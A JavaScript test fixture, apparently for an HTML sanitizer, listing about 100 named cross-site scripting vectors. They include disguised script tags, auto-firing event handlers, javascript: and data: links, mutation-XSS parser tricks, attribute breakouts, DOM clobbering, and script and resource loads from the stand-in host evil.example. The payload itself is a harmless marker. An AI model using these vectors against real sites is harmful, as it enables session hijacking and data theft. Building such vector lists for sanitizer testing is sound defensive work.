/**
 * What every vector runs: the mark in its own window, and a call to the window above where one listens. Without quotes,
 * spaces or angle brackets, so that it fits any place in markup.
 */
export const RUN = 'window.__handbillExecuted=1;parent.pwned?.()';

const EVIL = 'https://evil.example';
const IMAGE = `<img src="${EVIL}/image" onerror="${RUN}">`;
const SCRIPT = `<script>${RUN}</script>`;
const LINK = `javascript:${RUN};void 0`;
const encodedScript = encodeURIComponent(SCRIPT);

/** Scripts and the ways to hide that they are scripts. */
const scripts = {
  script: SCRIPT,
  'script-mixed-case': `<ScRiPt>${RUN}</sCrIpT >`,
  'script-newlines': `<script\n>${RUN}</script\n>`,
  'script-nested': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'script-nul': `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  'script-unclosed': `<script>${RUN}//`,
  'script-foreign': `<script src="${EVIL}/script.js"></script>`,
  'script-foreign-slashes': '<script src=//evil.example/slashes.js></script>',
  'script-module': `<script type="module">${RUN}</script>`,
  'script-import': `<script type="module">import "${EVIL}/import.js"</script>`,
  'script-import-map': `<script type="importmap">{"imports":{"lit":"${EVIL}/lit.js"}}</script>`,
  'script-speculation': `<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/speculation"]}]}</script>`,
  'script-after-end-of-script': `</script>${SCRIPT}`,
  'script-in-drawing': `<svg><script>${RUN}</script></svg>`,
  'script-in-drawing-foreign': `<svg><script href="${EVIL}/drawing.js"></script></svg>`,
  'script-in-drawing-encoded':
    '<svg><script>window.__handbillExecuted&#61;1;parent.pwned?.&#40;&#41;</script></svg>',
};

/** Handlers that need no act of the reader. */
const handlers = {
  'image-error': IMAGE,
  'image-unquoted': `<img src=x: onerror=${RUN}>`,
  'image-newlines': `<img\nsrc="x:"\nonerror\n=\n"${RUN}">`,
  'image-unclosed': `<img src="x:" onerror="${RUN}" //`,
  'image-encoded-handler':
    '<img src="x:" onerror="window.__handbillExecuted&equals;1;parent.pwned?.&lpar;&rpar;">',
  'image-alias': `<image src="x:" onerror="${RUN}">`,
  'image-load': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${RUN}">`,
  'input-image': `<input type="image" src="${EVIL}/input" onerror="${RUN}">`,
  'drawing-load': `<svg onload="${RUN}"></svg>`,
  'drawing-load-slash': `<svg/onload=${RUN}>`,
  'drawing-animate': `<svg><animate attributeName="x" dur="1s" onbegin="${RUN}"/></svg>`,
  'drawing-image': `<svg><image href="${EVIL}/drawing-image" onerror="${RUN}"/></svg>`,
  'body-load': `<body onload="${RUN}">`,
  'body-page-show': `<body onpageshow="${RUN}">`,
  'frameset-load': `<frameset onload="${RUN}"></frameset>`,
  'frame-load': `<iframe onload="${RUN}"></iframe>`,
  'details-toggle': `<details open ontoggle="${RUN}"><summary>More</summary></details>`,
  'input-focus': `<input autofocus onfocus="${RUN}">`,
  'any-focus': `<b tabindex="0" autofocus onfocusin="${RUN}">News</b>`,
  'audio-error': `<audio src="${EVIL}/audio" onerror="${RUN}"></audio>`,
  'video-source-error': `<video><source src="${EVIL}/video" onerror="${RUN}"></video>`,
  'video-load-start': `<video src="${EVIL}/start" onloadstart="${RUN}"></video>`,
  'style-load': `<style onload="${RUN}"></style>`,
  'link-load': `<link rel="stylesheet" href="data:text/css," onload="${RUN}">`,
  'object-error': `<object data="${EVIL}/object" onerror="${RUN}"></object>`,
  'animation-start': `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${RUN}">News</b>`,
  'visibility-change': `<b style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="${RUN}">News</b>`,
};

/** Whole documents within the document. */
const documents = {
  'frame-source': `<iframe srcdoc="${SCRIPT}"></iframe>`,
  'frame-source-encoded': `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  'frame-script-address': `<iframe src="${LINK}"></iframe>`,
  'frame-data': `<iframe src="data:text/html,${encodedScript}"></iframe>`,
  'frame-foreign': `<iframe src="${EVIL}/frame"></iframe>`,
  'object-script-address': `<object data="${LINK}"></object>`,
  'embed-script-address': `<embed src="${LINK}">`,
  'embed-foreign': `<embed src="${EVIL}/embed">`,
  'shadow-template': `<div><template shadowrootmode="open">${IMAGE}</template></div>`,
};

/** Addresses that run when followed. */
const addresses = {
  'link-script': `<a href="${LINK}">More</a>`,
  'link-script-tab': `<a href="java&#9;script:${RUN};void 0">More</a>`,
  'link-script-colon': `<a href="javascript&colon;${RUN};void 0">More</a>`,
  'link-script-control': `<a href="&#1;${LINK}">More</a>`,
  'link-data': `<a href="data:text/html,${encodedScript}">More</a>`,
  'link-drawing': `<svg><a href="${LINK}"><text y="20">More</text></a></svg>`,
  'link-drawing-animated': `<svg><a><animate attributeName="href" values="${LINK}"/><text y="20">More</text></a></svg>`,
  'link-formula': `<math href="${LINK}"><mtext>More</mtext></math>`,
  'link-area': `<img usemap="#m" width="9" height="9" alt=""><map name="m"><area shape="default" href="${LINK}"></map>`,
  'link-ping': `<a href="#" ping="${EVIL}/ping">More</a>`,
  'form-action': `<form action="${LINK}"><button>More</button></form>`,
  'button-action': `<form><button formaction="${LINK}">More</button></form>`,
  'popover-toggle': `<button popovertarget="p">More</button><b popover id="p" onbeforetoggle="${RUN}">News</b>`,
};

/** No script, but a request to a stranger or a page that is no longer the owner's. */
const foreign = {
  'image-foreign': `<img src="${EVIL}/pixel">`,
  'image-set': `<img srcset="${EVIL}/set 1x">`,
  'picture-source': `<picture><source srcset="${EVIL}/source"><img alt=""></picture>`,
  'video-poster': `<video poster="${EVIL}/poster"></video>`,
  'style-sheet': `<link rel="stylesheet" href="${EVIL}/sheet.css">`,
  'style-import': `<style>@import "${EVIL}/import.css";</style>`,
  'style-background': `<b style="background:url(${EVIL}/background)">News</b>`,
  'link-preload': `<link rel="preload" as="image" href="${EVIL}/preload">`,
  base: `<base href="${EVIL}/">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  'refresh-script': `<meta http-equiv="refresh" content="0;url=${LINK}">`,
};

/** Text that changes into markup when it is parsed a second time, or that ends the place it stands in. */
const mutations = {
  'mutation-table': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${escapeOnce(IMAGE)}">`,
  'mutation-style': `<svg></p><style><a id="</style>${IMAGE}">`,
  'mutation-noscript': `<noscript><p title="</noscript>${IMAGE}">`,
  'mutation-title': `<svg><title><style><a title="</title>${IMAGE}">`,
  'mutation-form': `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  'comment-short': `<!-->${IMAGE}-->`,
  'comment-bang': `<!--x--!>${IMAGE}<!---->`,
  'section-of-data': `<![CDATA[><img src="x:" onerror="${RUN}">]]>`,
  'processing-instruction': `<?xml version="1.0"?>${IMAGE}`,
  'out-of-title': `</title>${IMAGE}`,
  'out-of-text-area': `</textarea>${IMAGE}`,
  'out-of-attribute': `"><img src="x:" onerror="${RUN}"><b x="`,
  'out-of-attribute-single': `'><img src='x:' onerror='${RUN}'><b x='`,
  'into-attribute': `" autofocus tabindex="0" onfocus="${RUN}" x="`,
  'escaped-once': escapeOnce(IMAGE),
  'escaped-twice': escapeOnce(escapeOnce(IMAGE)),
  'plain-text': `<plaintext>${IMAGE}`,
};

/** Tricks on what this page itself has: our elements, our configuration, template syntax. */
const gadgets = {
  'our-element': `<tag-feed api="${EVIL}/wp-json" tag="id:7"><a href="${LINK}">More</a></tag-feed>`,
  'our-configuration': `<script data-handbill data-api="${EVIL}/wp-json" type="text/plain"></script>`,
  'expression-literal': `\${${RUN}} {{constructor.constructor('${RUN}')()}} <%= ${RUN} %>`,
  'names-of-the-window': `<form id="document" name="customElements"><input name="attributes"><input name="nodeName"></form><a id="configure" href="${EVIL}/clobbered"></a>`,
};

function escapeOnce(markup) {
  return markup
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;');
}

/** `{ name, markup }` each; our own collection, at most 100 so that one page of posts holds it. */
export const markupVectors = Object.entries({
  ...scripts,
  ...handlers,
  ...documents,
  ...addresses,
  ...foreign,
  ...mutations,
  ...gadgets,
}).map(([name, markup]) => ({ name, markup }));
